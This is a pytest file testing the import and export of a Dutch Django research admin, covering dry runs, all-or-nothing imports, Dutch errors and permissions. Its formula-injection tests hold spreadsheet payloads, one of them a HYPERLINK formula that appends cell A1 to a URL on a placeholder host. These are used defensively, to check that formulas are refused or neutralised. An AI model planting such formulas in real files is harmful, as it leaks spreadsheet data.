"""Import and export in the researcher workspace (django-import-export 4.x).

The admin import is two steps: the upload runs a dry run and shows a preview with a confirm form
(hidden fields naming the stored upload), and only the confirm step writes. A bad file must say
what is wrong, in Dutch, and change nothing, not even part of the file.
"""

import csv
import io
import zipfile

import openpyxl
import pytest
from django.contrib.auth.models import Permission, User
from django.core.management import call_command
from import_export.formats.base_formats import CSV, JSON, XLSX

from core.models import PublicationStatus
from investments.models import Investment, Partner
from investments.resources import InterventionResource, InvestmentResource
from lessons.resources import BottleneckResource, LessonResource, QuoteResource, TipResource
from municipalities.resources import MunicipalityResource
from tests.workspace_helpers import (
    EXPORT_URL,
    IMPORT_URL,
    INVESTMENT_COLUMNS,
    ONDERZOEKER,
    PASSWORD,
    confirm_form_inputs,
    confirm_import,
    csv_bytes,
    encode,
    export,
    make_user,
    page_text,
    post_import,
    snapshot,
    upload,
    xlsx_bytes,
)

ALL_RESOURCES = [
    MunicipalityResource,
    InvestmentResource,
    InterventionResource,
    LessonResource,
    BottleneckResource,
    TipResource,
    QuoteResource,
]
FILE_FORMATS = {"csv": CSV, "xlsx": XLSX, "json": JSON}


@pytest.fixture
def researcher(client):
    user = make_user(ONDERZOEKER)
    client.force_login(user)
    return user


def new_rows():
    """Three new investments for Amsterdam (GM0363), every column filled in."""
    partner = Partner.objects.order_by("pk").first().slug
    return [
        {
            "gemeente": "GM0363",
            "slug": "nieuw-meldpunt",
            "status": "gepland",
            "titel": "Een nieuw meldpunt",
            "tekst": "Amsterdam opent een meldpunt voor eenzaamheid.",
            "themas": "meldpunt|training",
            "doelgroepen": "ouderen",
            "interventies": "compaan",
            "partners": partner,
            "bereik": "200 inwoners",
            "volgorde": 20,
            "publicatiestatus": "concept",
        },
        {
            "gemeente": "GM0363",
            "slug": "nieuwe-training",
            "status": "gedaan",
            "titel": "Training voor huisartsen",
            "tekst": "Huisartsen leren eenzaamheid herkennen.",
            "themas": "training",
            "doelgroepen": "professionals|ouderen",
            "interventies": "",
            "partners": "",
            "bereik": "30 huisartsen",
            "volgorde": 21,
            "publicatiestatus": "concept",
        },
        {
            "gemeente": "GM0363",
            "slug": "nieuwe-campagne",
            "status": "gepland",
            "titel": "Campagne ‘Even bellen’ met é en ë",
            "tekst": "Een campagne in de hele stad, ook in het Fries: ‘Sa ienlik’.",
            "themas": "campagne",
            "doelgroepen": "alle-inwoners",
            "interventies": "",
            "partners": "",
            "bereik": "de hele stad",
            "volgorde": 22,
            "publicatiestatus": "gepubliceerd",
        },
    ]


def good_row(slug="nog-een-goede-regel"):
    return {
        "gemeente": "GM0363",
        "slug": slug,
        "status": "gepland",
        "titel": "Een goede regel",
        "tekst": "Deze regel is in orde.",
        "bereik": "10 inwoners",
        "volgorde": 30,
        "publicatiestatus": "concept",
    }


# --- The admin flow: dry run with a preview, then confirm ----------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("file_format", ["csv", "xlsx", "json"])
def test_dry_run_previews_and_only_the_confirm_step_writes(client, researcher, file_format):
    rows = new_rows()
    before = snapshot()
    amsterdam_count = Investment.objects.filter(municipality__cbs_code="GM0363").count()

    dry_run = post_import(client, encode(rows, file_format), file_format)

    assert dry_run.status_code == 200
    result = dry_run.context["result"]
    assert not result.has_errors() and not result.has_validation_errors()
    assert result.totals["new"] == 3
    text = page_text(dry_run)
    assert "Voorbeeldweergave" in text
    for row in rows:
        assert row["titel"] in text
    inputs = confirm_form_inputs(dry_run)
    assert set(inputs) >= {"import_file_name", "original_file_name", "format", "resource"}
    # The preview wrote nothing: no rows, no history, no version changes.
    assert snapshot() == before

    confirmed = confirm_import(client, dry_run)

    assert confirmed.status_code == 302
    assert confirmed["Location"] == "/beheer/investments/investment/"
    assert Investment.objects.filter(municipality__cbs_code="GM0363").count() == amsterdam_count + 3
    first = Investment.objects.get(municipality__cbs_code="GM0363", slug="nieuw-meldpunt")
    assert first.title == "Een nieuw meldpunt"
    assert first.status == "planned"
    assert first.position == 20
    assert first.reach == "200 inwoners"
    assert first.publication_status == PublicationStatus.DRAFT
    assert sorted(first.themes.values_list("slug", flat=True)) == ["meldpunt", "training"]
    assert list(first.target_groups.values_list("slug", flat=True)) == ["ouderen"]
    assert list(first.interventions.values_list("slug", flat=True)) == ["compaan"]
    assert first.partners.count() == 1
    second = Investment.objects.get(municipality__cbs_code="GM0363", slug="nieuwe-training")
    assert sorted(second.target_groups.values_list("slug", flat=True)) == ["ouderen", "professionals"]
    assert second.interventions.count() == 0
    third = Investment.objects.get(municipality__cbs_code="GM0363", slug="nieuwe-campagne")
    assert third.title == "Campagne ‘Even bellen’ met é en ë"
    assert third.publication_status == PublicationStatus.PUBLISHED
    # Who imported is in the history, as for any other change.
    created = first.history.get(history_type="+")
    assert created.history_user == researcher
    # Nothing else changed.
    after = snapshot()
    assert after["Investment values"][: len(before["Investment values"])] == before["Investment values"]


@pytest.mark.django_db
def test_import_of_changed_rows_updates_them_and_records_history(client, researcher):
    investment = Investment.objects.get(
        municipality__cbs_code="GM0363", slug="tien-beloftevolle-experimenten-verduurzaamd"
    )
    dataset = InvestmentResource().export(queryset=Investment.objects.filter(pk=investment.pk))
    dataset.dict = [{**dataset.dict[0], "titel": "Tien experimenten, verduurzaamd"}]
    content = dataset.export("csv").encode()

    version = investment.version

    dry_run = post_import(client, content, "csv")
    assert dry_run.context["result"].totals["update"] == 1
    investment.refresh_from_db()
    assert investment.title == "Bijdrage aan tien beloftevolle experimenten om hun aanpak te verduurzamen"

    confirm_import(client, dry_run)

    investment.refresh_from_db()
    assert investment.title == "Tien experimenten, verduurzaamd"
    assert investment.version == version + 1
    latest = investment.history.order_by("-history_date", "-history_id").first()
    assert (latest.history_type, latest.history_user, latest.title) == ("~", researcher, investment.title)


# --- Bad files: a Dutch explanation, and nothing changes ----------------------------------------------

BAD_ROW_CASES = {
    # name: (the bad row's changes, the column the error must name, Dutch text of the error)
    "unknown-municipality": ({"gemeente": "GM9999"}, None, "Onbekende gemeente: ‘GM9999’"),
    "bad-status": (
        {"status": "misschien"},
        "status",
        "‘misschien’ is geen geldige waarde; kies uit: gedaan, gepland, loopt, vervallen, uitgesteld.",
    ),
    "bad-publication-status": (
        {"publicatiestatus": "openbaar"},
        "publicatiestatus",
        "‘openbaar’ is geen geldige waarde; kies uit: concept, gepubliceerd.",
    ),
    "empty-title": ({"titel": ""}, "titel", "leeg"),
    "empty-text": ({"tekst": ""}, "tekst", "leeg"),
    "unknown-theme": ({"themas": "meldpunt|bestaat-niet"}, None, "Onbekende thema's: bestaat-niet."),
    "formula": ({"titel": '=HYPERLINK("https://example.org","klik")'}, "titel", "Formules zijn niet toegestaan"),
}


@pytest.mark.django_db
@pytest.mark.parametrize("case", BAD_ROW_CASES)
def test_one_bad_row_among_good_rows_is_named_and_nothing_is_offered(client, researcher, case):
    changes, column, message = BAD_ROW_CASES[case]
    rows = [good_row("eerste-goede-regel"), good_row("slechte-regel") | changes, good_row("derde-goede-regel")]
    before = snapshot()

    response = post_import(client, csv_bytes(rows), "csv")

    assert response.status_code == 200
    assert message in page_text(response)
    result = response.context["result"]
    if column is None:
        # Caught while looking the row up or linking it: reported as an error of row 3 (the header is row 1).
        assert [number for number, _errors in result.row_errors()] == [3]
    else:
        assert [(row.number, list(row.error_dict)) for row in result.invalid_rows] == [(3, [column])]
    # No confirm button: a file with a bad row cannot be imported at all.
    assert confirm_form_inputs(response) is None
    assert snapshot() == before


@pytest.mark.django_db
@pytest.mark.parametrize(
    "header",
    [
        pytest.param([c for c in INVESTMENT_COLUMNS if c not in {"tekst", "bereik"}], id="missing"),
        pytest.param([*INVESTMENT_COLUMNS, "opmerking"], id="unknown"),
        pytest.param(["title", *INVESTMENT_COLUMNS[1:]], id="english-name"),
    ],
)
def test_wrong_columns_are_named_and_nothing_changes(client, researcher, header):
    before = snapshot()
    response = post_import(client, csv_bytes([good_row()], columns=header), "csv")

    text = page_text(response)
    assert response.status_code == 200
    assert "Het bestand heeft niet de juiste kolommen" in text
    missing = sorted(set(INVESTMENT_COLUMNS) - set(header))
    unknown = sorted(set(header) - set(INVESTMENT_COLUMNS))
    if missing:
        assert f"ontbrekende kolommen: {', '.join(missing)}" in text
    if unknown:
        assert f"onbekende kolommen: {', '.join(unknown)}" in text
    assert confirm_form_inputs(response) is None
    assert snapshot() == before


@pytest.mark.django_db
def test_xlsx_with_a_formula_cell_is_refused(client, researcher):
    rows = [good_row("eerste-goede-regel"), good_row("formule") | {"titel": "=1+1"}]
    before = snapshot()

    response = post_import(client, xlsx_bytes(rows), "xlsx")

    # tablib reads XLSX values, not formulas: a formula without a stored result arrives empty and
    # the row is refused for its empty title (a formula saved with a result is tested below).
    result = response.context["result"]
    assert [(row.number, list(row.error_dict)) for row in result.invalid_rows] == [(3, ["titel"])]
    assert "Sommige regels zijn niet goedgekeurd" in page_text(response)
    assert confirm_form_inputs(response) is None
    assert snapshot() == before


def _with_cached_formula_result(content, formula, cached):
    """The XLSX as Excel saves it: openpyxl writes formulas without a result; Excel stores one."""
    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                old = f"<f>{formula}</f><v />".encode()
                assert old in data
                data = data.replace(old, f"<f>{formula}</f><v>{cached}</v>".encode())
            target.writestr(item, data)
    return out.getvalue()


@pytest.mark.django_db
def test_xlsx_formula_as_saved_by_excel_is_refused(client, researcher):
    content = _with_cached_formula_result(xlsx_bytes([good_row() | {"titel": "=1+1"}]), "1+1", "2")
    before = snapshot()

    response = post_import(client, content, "xlsx")

    assert "Formules zijn niet toegestaan" in page_text(response)
    assert confirm_form_inputs(response) is None
    assert snapshot() == before


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "file_format", "content"),
    [
        pytest.param(
            "latin1.csv", "csv", csv_bytes([good_row() | {"titel": "Café"}], encoding="latin-1"), id="latin-1"
        ),
        pytest.param("rommel.csv", "csv", bytes(range(256)) * 64, id="garbage-as-csv"),
        pytest.param("rommel.xlsx", "xlsx", bytes(range(256)) * 64, id="garbage-as-xlsx"),
        pytest.param("rommel.json", "json", b"\x00\x01{niet: json", id="garbage-as-json"),
    ],
)
def test_unreadable_file_is_refused_and_nothing_changes(client, researcher, name, file_format, content):
    before = snapshot()
    response = post_import(client, content, file_format, name=name)
    assert response.status_code == 200
    # The upload form comes back with an error on the file field, and no preview or confirm.
    assert response.context["form"].errors["import_file"]
    assert "result" not in response.context or not response.context["result"]
    assert confirm_form_inputs(response) is None
    assert snapshot() == before


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "file_format", "content"),
    [
        pytest.param(
            "latin1.csv", "csv", csv_bytes([good_row() | {"titel": "Café"}], encoding="latin-1"), id="latin-1"
        ),
        pytest.param("rommel.xlsx", "xlsx", bytes(range(256)) * 64, id="garbage-as-xlsx"),
    ],
)
def test_unreadable_file_error_is_in_dutch(client, researcher, name, file_format, content):
    response = post_import(client, content, file_format, name=name)
    errors = " ".join(response.context["form"].errors["import_file"])
    assert "encountered while trying to read file" not in errors
    assert "bestand" in errors.lower()


@pytest.mark.django_db
def test_file_over_the_size_limit_is_refused_in_dutch(client, researcher):
    before = snapshot()
    content = b"gemeente,slug\r\n" + b"x" * (20 * 1024 * 1024)
    response = client.post(IMPORT_URL, {"resource": "0", "format": "0", "import_file": upload("groot.csv", content)})

    assert response.status_code == 200
    # filesizeformat joins number and unit with a no-break space.
    errors = [error.replace("\xa0", " ") for error in response.context["form"].errors["import_file"]]
    assert errors == ["Het bestand is te groot (20,0 MB). Het maximum is 5,0 MB; splits het bestand op."]
    assert confirm_form_inputs(response) is None
    assert snapshot() == before


@pytest.mark.django_db
def test_import_success_message_is_in_dutch(client, researcher):
    dry_run = post_import(client, encode(new_rows(), "csv"), "csv")
    response = client.post("/beheer/investments/investment/process_import/", confirm_form_inputs(dry_run), follow=True)
    messages = [str(message) for message in response.context["messages"]]
    assert len(messages) == 1
    assert "Import finished" not in messages[0]


# --- All or nothing, also without the admin -----------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("bad", [{"status": "misschien"}, {"gemeente": "GM9999"}, {"themas": "bestaat-niet"}])
def test_resource_import_of_a_file_with_one_bad_row_writes_nothing(bad):
    rows = [good_row("eerste"), good_row("tweede"), good_row("derde") | bad]
    dataset = CSV().create_dataset(csv_bytes(rows).decode())
    before = snapshot()

    result = InvestmentResource().import_data(dataset, dry_run=False, raise_errors=False)

    assert result.has_errors() or result.has_validation_errors()
    # The two good rows before the bad one were rolled back with it.
    assert snapshot() == before


@pytest.mark.django_db
def test_import_command_with_one_bad_row_exits_with_an_error_and_writes_nothing(tmp_path, capsys):
    path = tmp_path / "investeringen.csv"
    path.write_bytes(csv_bytes([good_row("eerste"), good_row("tweede") | {"status": "misschien"}]))
    before = snapshot()

    with pytest.raises(SystemExit) as exit_info:
        call_command("import", "investments.resources.InvestmentResource", str(path), "--no-input")

    assert exit_info.value.code not in (0, None)
    # The command names the row (as the spreadsheet numbers it), the column and the problem, in Dutch.
    assert "Regel 3, kolom ‘status’: ‘misschien’ is geen geldige waarde" in capsys.readouterr().err
    assert snapshot() == before


@pytest.mark.django_db
def test_import_command_dry_run_writes_nothing_and_a_real_run_imports(tmp_path):
    path = tmp_path / "investeringen.csv"
    path.write_bytes(csv_bytes(new_rows()))
    before = snapshot()

    call_command("import", "investments.resources.InvestmentResource", str(path), "--no-input", "--dry-run")
    assert snapshot() == before

    call_command("import", "investments.resources.InvestmentResource", str(path), "--no-input")
    assert Investment.objects.count() == len(before["Investment values"]) + 3
    # No request, so no user: the history still records the creation.
    assert Investment.objects.get(slug="nieuw-meldpunt").history.get(history_type="+").history_user is None


def _run_export_command(file_format, resource):
    stdout = io.TextIOWrapper(io.BytesIO(), encoding="utf-8")
    call_command("export", file_format, resource, stdout=stdout)
    stdout.flush()
    return stdout.buffer.getvalue()


@pytest.mark.django_db
def test_export_command_writes_every_investment():
    content = _run_export_command("CSV", "investments.resources.InvestmentResource").decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(content)))
    # Issue 19 added two optional columns: the municipality's name beside its code, and `ronde`;
    # issue 20 the optional `budget_eur`, last.
    assert list(rows[0]) == [
        *INVESTMENT_COLUMNS[:1],
        "gemeente_naam",
        *INVESTMENT_COLUMNS[1:3],
        "ronde",
        *INVESTMENT_COLUMNS[3:],
        "budget_eur",
    ]
    assert len(rows) == Investment.objects.count()
    first = next(row for row in rows if row["slug"] == "tien-beloftevolle-experimenten-verduurzaamd")
    assert first["gemeente"] == "GM0363"
    assert first["gemeente_naam"] == "Amsterdam"
    assert first["ronde"] == ""
    assert first["themas"] == "interventies-verbreden"
    assert first["publicatiestatus"] == "gepubliceerd"


# --- Export neutralises formulas ---------------------------------------------------------------------

FORMULA_TITLE = '=HYPERLINK("https://example.org/?d="&A1,"Klik hier")'


def _give_an_investment_a_formula_title():
    investment = Investment.objects.order_by("pk").first()
    Investment.objects.filter(pk=investment.pk).update(title=FORMULA_TITLE)
    return investment


@pytest.mark.django_db
def test_csv_export_neutralises_formulas(client, researcher):
    _give_an_investment_a_formula_title()
    response = export(client, "csv")

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA_TITLE in cells
    assert not any(cell.startswith("=") for cell in cells)


@pytest.mark.django_db
def test_xlsx_export_neutralises_formulas(client, researcher):
    _give_an_investment_a_formula_title()
    response = export(client, "xlsx")

    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    titles = [cell for cell in cells if cell.value == "'" + FORMULA_TITLE]
    assert len(titles) == 1
    # Stored as text, never as a formula the spreadsheet would run.
    assert titles[0].data_type == "s"
    assert not any(cell.data_type == "f" for cell in cells)
    assert not any(isinstance(cell.value, str) and cell.value.startswith("=") for cell in cells)


@pytest.mark.django_db
def test_export_command_neutralises_formulas():
    _give_an_investment_a_formula_title()
    content = _run_export_command("CSV", "investments.resources.InvestmentResource").decode("utf-8")
    assert FORMULA_TITLE not in content
    assert not any(cell.startswith("=") for row in csv.reader(io.StringIO(content)) for cell in row)


# --- A round trip changes nothing -----------------------------------------------------------------------


def _state(model):
    return {
        "rows": list(model.objects.order_by("pk").values_list("pk", "version", "updated_at")),
        "history": model.history.count(),
    }


@pytest.mark.django_db
@pytest.mark.parametrize("resource_class", ALL_RESOURCES, ids=lambda resource: resource.__name__)
def test_round_trip_of_the_dataset_changes_nothing(resource_class):
    model = resource_class._meta.model
    before = _state(model)
    dataset = resource_class().export()
    assert len(dataset) == model.objects.count() > 0

    result = resource_class().import_data(dataset, dry_run=False, raise_errors=False)

    assert not result.has_errors() and not result.has_validation_errors()
    assert result.totals["new"] == result.totals["update"] == result.totals["delete"] == 0
    assert result.totals["skip"] == len(dataset)
    assert _state(model) == before


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("resource_class", "file_format"),
    [
        *[
            (resource_class, file_format)
            for resource_class in [InvestmentResource, LessonResource, QuoteResource, MunicipalityResource]
            for file_format in ["csv", "json"]
        ],
        (LessonResource, "xlsx"),
        (BottleneckResource, "xlsx"),
        (TipResource, "xlsx"),
        # These have records with an empty optional text, which XLSX gives back as None.
        (InvestmentResource, "xlsx"),
        (QuoteResource, "xlsx"),
        (MunicipalityResource, "xlsx"),
        (InterventionResource, "xlsx"),
    ],
    ids=lambda value: value if isinstance(value, str) else value.__name__,
)
def test_round_trip_through_a_file_changes_nothing(resource_class, file_format):
    model = resource_class._meta.model
    before = _state(model)
    file_class = FILE_FORMATS[file_format]
    content = file_class().export_data(resource_class().export())
    dataset = file_class().create_dataset(content)

    result = resource_class().import_data(dataset, dry_run=False, raise_errors=False)

    assert not result.has_errors() and not result.has_validation_errors()
    assert result.totals["skip"] == model.objects.count()
    assert _state(model) == before


@pytest.mark.django_db
def test_round_trip_through_the_admin_changes_nothing(client, researcher):
    before = snapshot()
    exported = export(client, "csv")
    assert exported.status_code == 200

    dry_run = post_import(client, exported.content, "csv")
    assert dry_run.context["result"].totals["skip"] == Investment.objects.count()
    confirmed = confirm_import(client, dry_run)

    assert confirmed.status_code == 302
    assert snapshot() == before


@pytest.mark.django_db
def test_xlsx_with_an_empty_optional_cell_imports(client, researcher):
    row = good_row() | {"bereik": None}
    dry_run = post_import(client, xlsx_bytes([row]), "xlsx")
    assert dry_run.context["result"].totals["new"] == 1
    confirm_import(client, dry_run)
    assert Investment.objects.get(slug=row["slug"]).reach == ""


# --- Import and export are separate permissions ---------------------------------------------------------


def _user_with(*codenames):
    user = User.objects.create_user("los", password=PASSWORD, is_staff=True)
    user.user_permissions.set(Permission.objects.filter(content_type__app_label="investments", codename__in=codenames))
    return user


@pytest.mark.django_db
def test_export_permission_alone_does_not_allow_import(client):
    client.force_login(_user_with("view_investment", "export_investment"))
    assert client.get(EXPORT_URL).status_code == 200
    assert client.get(IMPORT_URL).status_code == 403


@pytest.mark.django_db
def test_import_permission_alone_does_not_allow_export(client):
    client.force_login(_user_with("view_investment", "import_investment"))
    assert client.get(IMPORT_URL).status_code == 200
    assert client.get(EXPORT_URL).status_code == 403
    assert client.post(EXPORT_URL, {"resource": "0", "format": "0"}).status_code == 403


@pytest.mark.django_db
def test_municipality_has_no_import_without_its_own_permission(client):
    # Permissions are per model: importing investments does not open importing municipalities.
    client.force_login(_user_with("view_investment", "import_investment"))
    assert client.get("/beheer/municipalities/municipality/import/").status_code == 403
